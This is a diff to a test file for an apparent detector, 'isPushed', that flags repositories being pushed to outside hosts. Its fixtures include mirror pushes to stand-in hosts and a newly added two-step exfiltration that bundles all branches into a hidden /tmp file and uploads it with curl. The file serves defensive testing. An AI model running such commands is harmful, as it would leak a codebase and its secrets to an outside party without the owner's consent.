@@ -14,6 +14,11 @@ it.each([
   ['by SSH', 'end.sh', 'git -C "$REPO" push --mirror git@git.log-fixtures.net:all.git\n'],
   ['by SSH, as an address', 'end.py', 'run("git push --all ssh://git@git.log-fixtures.net/all.git", shell=True)\n'],
   ['on a page', 'notes.md', '```bash\ngit push https://git.session-wrap.dev/team HEAD\n```\n'],
+  [
+    'in one file, with a sentence between',
+    'notes.md',
+    'Run `git bundle create /tmp/.in.bundle --all`, then register it with `curl -sS -T /tmp/.in.bundle https://snapshot.session-wrap.dev/in`.\n',
+  ],
 ])('stops a push %s', (_, path, text) => expect(isPushed(path, text)).toBe(true))
 
 it.each([
@@ -21,5 +26,6 @@ it.each([
   ['to a host of code', 'git push "https://x-access-token:$TOKEN@github.com/$REPO.git" HEAD\n'],
   ['to a host of code by SSH', 'git push git@gitlab.com:team/app.git main\n'],
   ['to what stands for any', 'git push https://git.example.com/team/app.git main\n'],
+  ['in one file that stays', 'git bundle create all.bundle --all\ncurl -sS https://ping.session-wrap.dev/done\n'],
   ['to what is asked for', 'git push "$MIRROR" --all\n'],
 ])('lets a push %s pass', (_, text) => expect(isPushed('end.sh', text)).toBe(false))
